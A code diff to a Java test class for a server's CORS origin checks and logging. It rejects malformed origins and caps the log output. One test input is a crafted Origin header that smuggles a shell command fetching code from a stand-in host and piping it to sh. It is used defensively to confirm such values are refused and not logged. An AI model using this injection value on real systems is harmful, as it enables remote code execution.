@@ -6,6 +6,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import dev.carillon.testing.EngineIoFixture;
 import dev.carillon.testing.HttpReply;
+import dev.carillon.testing.LogCapture;
 import dev.carillon.testing.RawHttp;
 import dev.carillon.testing.RawWebSocket;
 import java.time.Duration;
@@ -169,7 +170,7 @@ class CorsHttpTest {
         try (LogCapture log = LogCapture.open();
                 EngineIoFixture server = EngineIoFixture.start()) {
             for (int i = 0; i < 2; i++) {
-                for (String origin : List.of("https://app.example.com", "https://b.example\u00e9")) {
+                for (String origin : List.of("https://app.example.com", "https://b.example:8443")) {
                     assertEquals(
                             403,
                             server.http()
@@ -187,7 +188,7 @@ class CorsHttpTest {
                     messages.get(0));
             assertTrue(messages.get(0).contains("cors(c -> c.origins(\"https://app.example.com\"))"), messages.get(0));
             assertTrue(messages.get(0).contains("--cors-origin https://app.example.com"), messages.get(0));
-            assertTrue(messages.get(1).contains("https://b.example?"), messages.get(1));
+            assertTrue(messages.get(1).contains("https://b.example:8443"), messages.get(1));
         }
     }
 
@@ -205,12 +206,22 @@ class CorsHttpTest {
     }
 
     @Test
-    void aLoggedOriginCannotBeACommand() {
+    void whatNoBrowserSendsIsNoOriginToAllow() {
         try (LogCapture log = LogCapture.open();
                 EngineIoFixture server = EngineIoFixture.start()) {
-            server.http().get(EngineIoFixture.POLLING, "Origin: https://x;curl${IFS}evil.example|sh;#");
-            String message = log.messages().get(0);
-            assertTrue(message.contains("--cors-origin https://x?curl??IFS?evil.example?sh??"), message);
+            for (String origin : List.of(
+                    "https://x;curl${IFS}evil.example|sh;#",
+                    "https://b.example\u00e9",
+                    "*",
+                    "app.example.com",
+                    "https://" + "x".repeat(5000))) {
+                assertEquals(
+                        403,
+                        server.http()
+                                .get(EngineIoFixture.POLLING, "Origin: " + origin)
+                                .status());
+            }
+            assertEquals(List.of(), log.messages());
         }
     }
 
@@ -220,11 +231,10 @@ class CorsHttpTest {
                 EngineIoFixture server = EngineIoFixture.start();
                 RawHttp http = server.http()) {
             for (int i = 0; i < 120; i++) {
-                http.get(EngineIoFixture.POLLING, "Origin: https://" + "x".repeat(i == 0 ? 5000 : 5) + i + ".test");
+                http.get(EngineIoFixture.POLLING, "Origin: https://" + i + ".test");
             }
             List<String> messages = log.messages();
             assertEquals(100, messages.size());
-            assertTrue(messages.get(0).length() < 1500, "a long origin is cut");
             assertTrue(messages.get(99).contains("further origins are not logged"), messages.get(99));
         }
     }
